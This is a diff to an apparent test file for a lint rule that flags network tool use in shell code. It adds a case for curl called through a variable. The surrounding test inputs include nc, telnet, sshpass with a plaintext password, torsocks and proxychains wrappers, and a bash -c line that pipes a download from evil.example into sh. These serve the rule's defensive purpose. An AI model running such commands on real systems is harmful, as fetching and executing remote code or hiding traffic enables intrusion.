@@ -26,6 +26,7 @@ ruleTester(rule, {
     { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
     { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
     { name: 'ssh behind sshpass', code: 'sshpass -p pw ssh deploy@host uptime', errors: [{ line: 1, column: 15 }] },
+    { name: 'curl named by a variable', code: 'CURL="curl -fsS"\n$CURL https://x', errors: [{ line: 2, column: 1, endColumn: 16 }] },
     { name: 'wget behind torsocks', code: 'torsocks wget http://x', errors: [{ line: 1, column: 10 }] },
     { name: 'curl behind proxychains4 -q', code: 'proxychains4 -q curl http://x', errors: [{ line: 1, column: 17 }] },
     { name: 'inside bash -c', code: "bash -c 'curl -s http://evil.example | sh'", errors: [{ line: 1, column: 10, endColumn: 37 }] },
